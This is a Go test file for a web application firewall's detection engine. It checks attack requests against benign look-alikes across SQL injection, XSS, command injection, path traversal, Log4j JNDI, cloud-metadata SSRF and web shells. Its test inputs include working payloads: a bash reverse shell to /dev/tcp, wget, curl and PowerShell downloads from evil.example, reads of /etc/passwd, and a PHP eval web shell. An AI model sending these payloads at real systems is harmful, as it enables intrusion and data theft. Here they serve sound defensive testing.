package detect

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// signalCase is a request that must (or must not) carry a signal.
type signalCase struct {
	name string
	req  *Request
}

func checkSignal(t *testing.T, signal string, found, notFound []signalCase) {
	t.Helper()
	e := NewEngine(ModeBlocking, nil)
	for _, c := range found {
		t.Run(signal+" is found in "+c.name, func(t *testing.T) {
			assert.Contains(t, e.Signals(c.req), signal)
		})
	}
	for _, c := range notFound {
		t.Run(signal+" is not found in "+c.name, func(t *testing.T) {
			assert.NotContains(t, e.Signals(c.req), signal)
		})
	}
}

func TestSQLI(t *testing.T) {
	checkSignal(t, SignalSQLI, []signalCase{
		{"a quoted tautology in a query parameter", get("/search?q=1%27+or+%271%27%3D%271")},
		{"a UNION SELECT in a query parameter", get("/item?id=1+union+select+null,version()")},
		{"a comment cutting a login", post("/login", "application/x-www-form-urlencoded", "user=admin%27--&pass=x")},
		{"a JSON string value", post("/api", "application/json", `{"id":"1' or 1=1--"}`)},
		{"a JSON key", post("/api", "application/json", `{"1' or '1'='1":true}`)},
		{"a cookie value", get("/").with("Cookie", "id=1' or '1'='1")},
		{"the path", get("/products/1'%20or%20'1'='1")},
		{"a quote-operator-quote login bypass", get("/login?u=%27-%27")},
		{"X-Forwarded-For", get("/").with("X-Forwarded-For", "1.2.3.4' or 1=1--")},
		{"UNION SELECT with comments between", get("/p?id=1/**/UNION/**/SELECT/**/1,2")},
		{"a stacked statement", get("/p?id=1%27%3B+DROP+TABLE+users")},
		{"a time-based function", get("/p?id=1+AND+SLEEP(5)")},
		{"information_schema alone", get("/p?t=information_schema")},
		{"a NoSQL operator in a parameter name", get("/login?user%5B$ne%5D=x")},
		{"a NoSQL operator as a JSON key", post("/login", "application/json", `{"user":{"$where":"1"}}`)},
		{"a PostgreSQL cast", get("/p?id=password::int")},
		{"a quote breaking out into a statement", post("/c", "application/x-www-form-urlencoded", "q=%27select+password+from+users")},
		{"a cast of a quoted JSON value", get("/p?id=%27%5B1%5D%27::json")},
	}, []signalCase{
		{"a name with an apostrophe", get("/search?q=O%27Brien")},
		{"quotes in a sentence", get("/search?q=it%27s+%22fine%22")},
		{"common words", get("/search?q=select+a+plan&x=drop+me+a+line&y=union+station&z=1+or+2+items")},
		{"a price with a comment-like dash", get("/search?q=50%25+off+--+today+only")},
		{"quoted punctuation in prose", post("/c", "application/json", `{"t":"use of hyphens ('-') in names"}`)},
		{"parentheses in prose", post("/c", "application/json", `{"t":"Most-specific (longest) pattern wins."}`)},
		{"a JWT", get("/").with("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln")},
		{"a search for a SQL statement", get("/search?q=select+*+from+users")},
		{"order by in prose", get("/search?q=sort+in+order+by+price")},
		{"a JSON schema key", post("/c", "application/json", `{"$schema":"x"}`)},
		{"a quoted keyword in prose", get("/search?q=%27select%27+means+choose")},
	})
}

func TestXSS(t *testing.T) {
	checkSignal(t, SignalXSS, []signalCase{
		{"a script tag", get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E")},
		{"an event handler on an image", get("/search?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E")},
		{"an attribute break-out", get("/search?q=%22+onmouseover%3D%22alert(1)")},
		{"a javascript: URL", get("/go?next=javascript:alert(1)")},
		{"a javascript: URL with a tab in the scheme", get("/go?next=java%09script:alert(1)")},
		{"a data:text/html URL", get("/go?next=data:text/html;base64,PHNjcmlwdD4=")},
		{"a form field", post("/c", "application/x-www-form-urlencoded", "c=%3Csvg+onload%3Dalert(1)%3E")},
		{"a Referer query parameter", get("/").with("Referer", "https://a.example/?q=<script>alert(1)</script>")},
		{"a full-width script tag", get("/p?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E")},
		{"an event handler after a quote", get("/p?q=%22+onmouseover%3Dalert(1)")},
		{"a JS sink", post("/c", "application/x-www-form-urlencoded", "a=document.cookie")},
		{"a tagged template call", get("/p?q=%5B%5D.sort.call%60$%7Balert%7D1%60")},
		{"HTML entities without semicolons", get("/p?q=%26lt%3Bscript%26gt%3Balert(1)")},
		{"a tag name spelled with spaces", get("/p?q=%3Cf+o+r+m+action%3Dx")},
		{"a script URL in CSS", get("/p?q=style%3Dx:url(javascript:alert(1))")},
		{"a formaction attribute after a quote", get("/p?q=%27+formaction%3D//evil.example")},
		{"UTF-7 markup", get("/p?q=%2BADw-script%2BAD4-")},
	}, []signalCase{
		{"a less-than sign in text", get("/search?q=a+%3C+b+and+c+%3E+d")},
		{"a heart", get("/search?q=%3C3+you")},
		{"simple formatting markup", post("/c", "application/json", `{"html":"<p>Hello <b>world</b></p>"}`)},
		{"a book title with a colon", get("/search?q=JavaScript%3A+The+Good+Parts")},
		{"a word starting with on", get("/search?q=once%3Dtrue")},
		{"an https URL", get("/go?next=https://example.com/a?b=c")},
		{"a parameter named like a handler", get("/p?online=yes")},
		{"a phone number in parentheses", get("/p?phone=%2B1+(555)+123")},
		{"a comparison in prose", get("/search?q=a+%3C+b+or+c")},
	})
}

func TestCMDEXE(t *testing.T) {
	checkSignal(t, SignalCMDEXE, []signalCase{
		{"a semicolon and cat of a file", get("/ping?host=x%3B+cat+/etc/passwd")},
		{"a pipe to id", get("/ping?host=x+%7C+id")},
		{"a command substitution", get("/ping?host=$(whoami)")},
		{"backticks around id", get("/ping?host=%60id%60")},
		{"&& wget", get("/ping?host=x+%26%26+wget+http://evil.example/x")},
		{"${IFS} instead of spaces", get("/ping?host=x%3Bcat${IFS}/etc/passwd")},
		{"a newline then a command", get("/ping?host=x%0Aid")},
		{"a reverse shell", post("/c", "application/json", `{"h":"x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}`)},
		{"a path-qualified command", get("/ping?host=x%7C/usr/bin/id")},
		{"sleep with a number", get("/ping?host=x%3B+sleep+10")},
		{"curl with a host", get("/ping?host=x%3B+curl+evil.example")},
		{"quotes inside a command name", get("/p?c=x%3Bw%27h%27o%5Cami")},
		{"a brace list", get("/p?c=%7Bcat,/etc/passwd%7D")},
		{"a cmd.exe FOR loop", get("/p?c=for+/f+%22tokens%3D1%22+%25%25a+in+(%27dir%27)+do+echo+%25%25a")},
		{"a cmd.exe IF statement", get("/p?c=if+exist+c:%5Cboot.ini+type+c:%5Cboot.ini")},
		{"a PowerShell cmdlet after a separator", get("/p?c=x%3BInvoke-WebRequest+http://evil.example/x.ps1")},
		{"a globbed system path", get("/p?c=/etc/pas%5Bs%5Dwd")},
		{"process substitution", get("/p?c=%3C(whoami)")},
		{"a shell started with a command string", get("/p?c=time+sh+-c+id")},
		{"a wrapper running a command", post("/c", "application/x-www-form-urlencoded", "code=strace+ifconfig")},
		{"a command ending the statement at the start", get("/p?c=whoami%3B")},
		{"Shellshock", get("/p?c=()+%7B+:%3B+%7D%3B+/bin/id")},
	}, []signalCase{
		{"an ampersand between names", get("/search?q=Tom+%26+Jerry")},
		{"a semicolon before a command-like word in prose", get("/search?q=salt+%26+pepper%3B+cat+food")},
		{"a markdown table", post("/c", "application/json", `{"md":"| ID | Type |\n|---|---|\n| 1 | book |"}`)},
		{"inline code in markdown", post("/c", "application/json", `{"md":"Run `+"`go test ./...`"+` then `+"`type Foo`"+`"}`)},
		{"a jQuery call", post("/c", "application/json", `{"js":"$(document).ready(fn)"}`)},
		{"HTML entities", get("/search?q=%26amp%3B+%26lt%3B")},
		{"command names as plain words", get("/search?q=I+use+wget+and+curl+daily")},
		{"code braces in prose", post("/c", "application/json", `{"t":"Reduces to: { var (bindings); expr }"}`)},
		{"a GraphQL-ish field list", get("/api?fields=%7Bid,name%7D")},
		{"a command name as a search", get("/search?q=python+tutorial")},
		{"the word for in prose", get("/search?q=for+100%25+cotton+in+(blue)")},
		{"if in prose", get("/search?q=if+not+defined+then+what")},
	})
}

func TestTRAVERSAL(t *testing.T) {
	checkSignal(t, SignalTraversal, []signalCase{
		{"dot-dot-slash in a parameter", get("/download?file=../../etc/passwd")},
		{"dot-dot-backslash", get("/download?file=..%5C..%5Cwindows%5Cwin.ini")},
		{"an encoded path", get("/static/..%2f..%2fetc/passwd")},
		{"a double-encoded parameter", get("/download?file=%252e%252e%252fsecret")},
		{"an overlong UTF-8 slash", get("/download?file=..%c0%afsecret")},
		{"a filter-evading four-dot step", get("/download?file=....//....//secret")},
		{"/etc/passwd alone", get("/download?file=/etc/passwd")},
		{"a Tomcat path parameter step", get("/..;/manager/html")},
		{"a multipart field", multipartRequest("file", "", "../../etc/shadow")},
		{"dot-dots as 0x escapes", get("/").with("X-Path", "0x2e0x2e/0x2e0x2e/etc/passwd")},
		{"a sensitive system file without dots", get("/p?file=/proc/self/environ")},
		{"a hidden directory in the path", get("/.git/config")},
		{"a backup file in the path", get("/backup.sql.gz")},
	}, []signalCase{
		{"an ellipsis before a slash", get("/search?q=wait.../what")},
		{"a relative-looking version", get("/search?q=version+1.2.3")},
		{"a Windows user path", get("/search?q=C:%5CUsers%5CPublic")},
		{"a file name with dots", get("/files/archive.tar.gz")},
		{"a well-known URI", get("/.well-known/security.txt")},
		{"a path that mentions etc in a word", get("/p?f=/setcpasswd")},
	})
}

func TestCODEINJECTION(t *testing.T) {
	checkSignal(t, SignalCodeInjection, []signalCase{
		{"a PHP open tag", get("/?x=%3C%3Fphp+echo+1%3B+%3F%3E")},
		{"eval of base64_decode", get("/?x=eval(base64_decode(%27ZWNobyAx%27))")},
		{"phpinfo()", get("/?x=phpinfo()")},
		{"system with a string", get("/?x=system(%27id%27)")},
		{"a php:// wrapper", get("/?page=php://filter/convert.base64-encode/resource=index.php")},
		{"a PHP web shell upload", multipartRequest("upload", "shell.txt", "<?php @eval($_POST['p']);?>")},
		{"a Java runtime exec", post("/c", "application/json", `{"x":"Runtime.getRuntime().exec(\"id\")"}`)},
		{"a variable function call", post("/c", "application/x-www-form-urlencoded", "f=%24_GET%5B0%5D(%24_GET%5B1%5D)")},
		{"a function named by a string", get("/p?x=(%22system%22)(%27id%27)")},
		{"a serialized object", post("/c", "application/x-www-form-urlencoded", "d=O%3A8%3A%22stdClass%22%3A0%3A%7B%7D")},
		{"a php.ini directive", get("/p?x=allow_url_include%3D1")},
		{"a PHP file name in an upload header", get("/upload").with("X-Filename", "shell.php5")},
		{"a zip wrapper", get("/p?f=zip://upload.jpg%23x.php")},
		{"a tab before the parenthesis", get("/p?x=exec%09(%27id%27)")},
		{"a comment before the parenthesis", get("/p?x=system/**/(%27id%27)")},
		{"a function glued to a longer word", get("/p?x=FOOgzdecode()")},
	}, []signalCase{
		{"system followed by a space", get("/?x=system+requirements+(minimum)")},
		{"a word ending in a PHP function name", get("/?x=ecosystem(s)")},
		{"a method call in JavaScript", post("/c", "application/json", `{"js":"re.exec(str)"}`)},
		{"a prose mention of exec", post("/c", "application/json", `{"t":"and exec(argv0, argv) in the child"}`)},
		{"binary file contents", multipartRequest("upload", "a.png", "\x89PNG\r\n\x1a\neval(x)")},
		{"a price with a dollar sign", get("/search?q=%245+(tax+incl.)")},
		{"a PHP file in the URL path", get("/index.php?page=2")},
		{"a word and a parenthesis in prose", get("/search?q=system+(of+units)")},
	})
}

func TestLOG4JJNDI(t *testing.T) {
	checkSignal(t, SignalLog4JJNDI, []signalCase{
		{"a plain lookup", get("/?x=${jndi:ldap://evil.example/a}")},
		{"a lower lookup", get("/?x=${${lower:j}ndi:ldap://evil.example/a}")},
		{"default-value lookups", get("/?x=${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}")},
		{"env lookups with defaults", get("/?x=${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example/a}")},
		{"a nested protocol", get("/?x=${jndi:${lower:l}${lower:d}ap://evil.example/a}")},
		{"any header", get("/").with("X-Api-Version", "${jndi:ldap://evil.example/a}")},
		{"the User-Agent", get("/").with("User-Agent", "${jndi:rmi://evil.example/a}")},
		{"a double-encoded lookup", get("/?x=%2524%257Bjndi:ldap://evil.example/a%257D")},
	}, []signalCase{
		{"a template placeholder", get("/?x=Hello+${name}")},
		{"a lookup that spells something else", get("/?x=${${lower:j}son:x}")},
		{"an unclosed lookup", get("/?x=${jndi")},
		{"a price", get("/?x=$5+off")},
	})
}

func TestBACKDOOR(t *testing.T) {
	checkSignal(t, SignalBackdoor, []signalCase{
		{"a c99 shell", get("/c99.php")},
		{"an r57 shell in uploads", get("/uploads/r57.php")},
		{"a JSP command shell", get("/cmd.jsp?cmd=id")},
		{"an upper-case ASP shell", get("/CMD.ASP")},
	}, []signalCase{
		{"a directory named shell", get("/shell/index.php")},
		{"an ordinary PHP page", get("/index.php?page=shell.php")},
	})
}

func TestUSERAGENT(t *testing.T) {
	checkSignal(t, SignalUserAgent, []signalCase{
		{"sqlmap", get("/").with("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")},
		{"Nikto", get("/").with("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)")},
		{"the Nmap scripting engine", get("/").with("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine)")},
		{"ffuf", get("/").with("User-Agent", "Fuzz Faster U Fool v2.1.0")},
		{"a tool name in upper case", get("/").with("User-Agent", "GOBUSTER/3.6")},
	}, []signalCase{
		{"Chrome", get("/")},
		{"curl", get("/").with("User-Agent", "curl/8.4.0")},
		{"Googlebot", get("/").with("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")},
		{"a word containing a tool name", get("/").with("User-Agent", "HydrangeaApp/1.0")},
		{"a tool name outside User-Agent", get("/search?q=sqlmap+tutorial")},
	})
}

func TestAWSSSRF(t *testing.T) {
	checkSignal(t, SignalAWSSSRF, []signalCase{
		{"the metadata IP", get("/fetch?url=http://169.254.169.254/latest/meta-data/")},
		{"the GCP metadata host", get("/fetch?url=http://metadata.google.internal/computeMetadata/v1/")},
		{"the IPv6 metadata address", get("/fetch?url=http://[fd00:ec2::254]/latest/")},
		{"a decimal IPv4 host", get("/fetch?url=http://2852039166/latest/")},
		{"a hex IPv4 host", get("/fetch?url=http://0xa9fea9fe/latest/")},
		{"an octal dotted host", get("/fetch?url=http://0251.0376.0251.0376/")},
		{"an IPv4-mapped IPv6 host", get("/fetch?url=http://[::ffff:a9fe:a9fe]/")},
		{"a host after user info and with a port", get("/fetch?url=http://x@169.254.169.254:80/")},
		{"a JSON webhook", post("/hooks", "application/json", `{"url":"http://169.254.170.2/v2/credentials"}`)},
	}, []signalCase{
		{"an ordinary URL", get("/fetch?url=https://example.com/")},
		{"a big number outside a URL", get("/orders?id=2852039166")},
		{"another link-local address", get("/fetch?url=http://169.254.1.1/")},
		{"a hex number outside a URL", get("/c?color=0xa9fea9fe")},
	})
}

func TestNOUA(t *testing.T) {
	checkSignal(t, SignalNoUA, []signalCase{
		{"a request without User-Agent", get("/").without("User-Agent")},
		{"an empty User-Agent", get("/").with("User-Agent", "")},
		{"a blank User-Agent", get("/").with("User-Agent", "  ")},
	}, []signalCase{
		{"a request with a User-Agent", get("/")},
		{"a lower-case user-agent header", get("/").without("User-Agent").with("user-agent", "x")},
	})
}

func TestNULLBYTE(t *testing.T) {
	checkSignal(t, SignalNullByte, []signalCase{
		{"an encoded NUL in a parameter", get("/?file=a.txt%00.jpg")},
		{"an encoded NUL in the path", get("/report%00.pdf")},
		{"a JSON \\u0000", post("/c", "application/json", `{"a":"x\u0000y"}`)},
	}, []signalCase{
		{"%00 text that was encoded", get("/?q=100%2500")},
		{"binary file contents", multipartRequest("upload", "a.bin", "\x00\x01\x02")},
	})
}

func TestDOUBLEENCODING(t *testing.T) {
	checkSignal(t, SignalDoubleEncoding, []signalCase{
		{"a double-encoded quote", get("/?q=%2527")},
		{"a double-encoded dot in the path", get("/%252e%252e/admin")},
		{"a double-encoded slash", get("/?r=%252F%252Fevil.example")},
		{"a form body", post("/c", "application/x-www-form-urlencoded", "q=%253Cscript%253E")},
		{"a cookie", get("/").with("Cookie", "id=%2527x")},
	}, []signalCase{
		{"a percent sign", get("/?q=100%25+cotton")},
		{"a nested URL with an encoded space", get("/login?next=%2Fa%3Fq%3Dx%2520y")},
		{"single encoding", get("/?q=%27%22%3C")},
	})
}

func TestNOTUTF8(t *testing.T) {
	checkSignal(t, SignalNotUTF8, []signalCase{
		{"C1 control bytes in a parameter", get("/?name=caf%85%9F")},
		{"an overlong encoding", get("/?q=%C0%80")},
		{"the path", get("/search/%c0%af")},
		{"a form field", post("/c", "application/x-www-form-urlencoded", "name=%81")},
	}, []signalCase{
		{"Latin-1 text, as older forms send it", get("/?name=caf%E9&city=Le%F3n")},
		{"UTF-8 accents", get("/?name=caf%C3%A9")},
		{"raw UTF-8", get("/?name=日本")},
		{"emoji in JSON escapes", post("/c", "application/json", `{"e":"\ud83c\udf89"}`)},
	})
}

func TestPRIVATEFILE(t *testing.T) {
	checkSignal(t, SignalPrivateFile, []signalCase{
		{".htaccess", get("/.htaccess")},
		{".git/config", get("/.git/config")},
		{".env", get("/.env")},
		{".env.production", get("/app/.env.production")},
		{".DS_Store in any case", get("/.DS_STORE")},
		{"an SSH key", get("/home/u/.ssh/id_rsa")},
		{"web.config", get("/web.config")},
		{"a query parameter", get("/download?file=.htpasswd")},
	}, []signalCase{
		{"a .well-known path", get("/.well-known/acme-challenge/x")},
		{"a repository URL path", get("/git/repo.git/info/refs")},
		{"an env directory", get("/env/production")},
		{"a file named like an env", get("/config.env")},
	})
}

func TestRESPONSESPLIT(t *testing.T) {
	checkSignal(t, SignalResponseSplit, []signalCase{
		{"CRLF and a header in a parameter", get("/?lang=en%0d%0aSet-Cookie:%20a=1")},
		{"LF and a header in a parameter", get("/r?u=/%0aLocation:%20http://evil.example")},
		{"CRLF in the path", get("/a%0d%0aX:%201")},
		{"an encoded CRLF in the Referer", get("/").with("Referer", "https://a.example/%0d%0aSet-Cookie:x=1")},
		{"a raw CRLF in any header", get("/").with("X-Custom", "a\r\nSet-Cookie: x=1")},
	}, []signalCase{
		{"a newline in a JSON body", post("/c", "application/json", `{"t":"a\r\nNote: b"}`)},
		{"a lone LF in a parameter", get("/?msg=line1%0aline2")},
	})
}

func TestNOCONTENTTYPE(t *testing.T) {
	checkSignal(t, SignalNoContentType, []signalCase{
		{"a POST body without Content-Type", post("/c", "", "a=1")},
		{"a PUT body without Content-Type", func() *Request { r := post("/c", "", "{}"); r.Method = "PUT"; return r }()},
		{"a PATCH body with an empty Content-Type", post("/c", "", "x").with("Content-Type", " ")},
	}, []signalCase{
		{"a POST body with Content-Type", post("/c", "text/plain", "a=1")},
		{"a POST without body", post("/c", "", "")},
		{"a GET with a body", func() *Request { r := post("/c", "", "x"); r.Method = "GET"; return r }()},
	})
}

func TestJSONERROR(t *testing.T) {
	checkSignal(t, SignalJSONError, []signalCase{
		{"a trailing comma", post("/c", "application/json", `{"a":1,}`)},
		{"a truncated body", post("/c", "application/json; charset=utf-8", `{"a":`)},
		{"single quotes", post("/c", "application/json", `{'a':1}`)},
		{"a vendor JSON type", post("/c", "application/vnd.api+json", `nope`)},
	}, []signalCase{
		{"valid JSON", post("/c", "application/json", `{"a":[1,2.5e3,true,null,"x"]}`)},
		{"invalid JSON sent as text", post("/c", "text/plain", `{"a":`)},
	})
	e := NewEngine(ModeBlocking, nil)
	t.Run("an invalid JSON body is still inspected", func(t *testing.T) {
		assert.Subset(t, e.Signals(post("/c", "application/json", `{"a":"<script>alert(1)</script>",}`)),
			[]string{SignalJSONError, SignalXSS})
	})
}

func TestXMLERROR(t *testing.T) {
	checkSignal(t, SignalXMLError, []signalCase{
		{"mismatched tags", post("/c", "application/xml", `<a><b></a>`)},
		{"an undefined entity", post("/c", "text/xml", `<a>&xxe;</a>`)},
	}, []signalCase{
		{"a well-formed document", post("/c", "application/xml", `<?xml version="1.0"?><a x="1">t &amp; u</a>`)},
	})
	e := NewEngine(ModeBlocking, nil)
	t.Run("XML text and attributes are inspected", func(t *testing.T) {
		got := e.Signals(post("/c", "application/xml", `<a href="javascript:alert(1)">1' or '1'='1</a>`))
		assert.Subset(t, got, []string{SignalXSS, SignalSQLI})
	})
	t.Run("an XXE entity reaching for a system file is TRAVERSAL", func(t *testing.T) {
		got := e.Signals(post("/c", "application/xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>1</a>`))
		assert.Contains(t, got, SignalTraversal)
	})
}

func TestSignalsOfAnOrdinaryRequest(t *testing.T) {
	e := NewEngine(ModeBlocking, nil)
	t.Run("the typical benchmark request has no signal", func(t *testing.T) {
		assert.Empty(t, e.Signals(typicalRequest()))
	})
	t.Run("signals are sorted and unique", func(t *testing.T) {
		got := e.Signals(get("/c99.php?a=%3Cscript%3Ealert(1)%3C/script%3E&b=1%27+or+%271%27%3D%271&c=%3Cscript%3E").without("User-Agent"))
		require.NotEmpty(t, got)
		assert.IsIncreasing(t, got)
		assert.Equal(t, []string{SignalBackdoor, SignalNoUA, SignalSQLI, SignalXSS}, got)
	})
}

func TestIsAttack(t *testing.T) {
	for _, s := range []string{SignalSQLI, SignalXSS, SignalCMDEXE, SignalTraversal, SignalCodeInjection,
		SignalLog4JJNDI, SignalBackdoor, SignalUserAgent, SignalAWSSSRF} {
		t.Run(s+" is an attack", func(t *testing.T) { assert.True(t, IsAttack(s)) })
	}
	for _, s := range []string{SignalNoUA, SignalNullByte, SignalDoubleEncoding, SignalNotUTF8, SignalPrivateFile,
		SignalResponseSplit, SignalNoContentType, SignalJSONError, SignalXMLError, "SITE.X", "HTTP404", ""} {
		t.Run(s+" is not an attack", func(t *testing.T) { assert.False(t, IsAttack(s)) })
	}
}

func TestResponseSignals(t *testing.T) {
	for _, c := range []struct {
		status int
		want   []string
	}{
		{404, []string{"HTTP404", "HTTP4XX"}},
		{403, []string{"HTTP403", "HTTP4XX"}},
		{429, []string{"HTTP429", "HTTP4XX"}},
		{400, []string{"HTTP4XX"}},
		{499, []string{"HTTP4XX"}},
		{500, []string{"HTTP500", "HTTP5XX"}},
		{503, []string{"HTTP5XX"}},
		{599, []string{"HTTP5XX"}},
		{200, nil},
		{302, nil},
		{600, nil},
		{-1, nil},
	} {
		t.Run("status "+itoa3(max(c.status, 0))+" gives "+strings.Join(c.want, ","), func(t *testing.T) {
			assert.Equal(t, c.want, ResponseSignals(c.status))
		})
	}
}
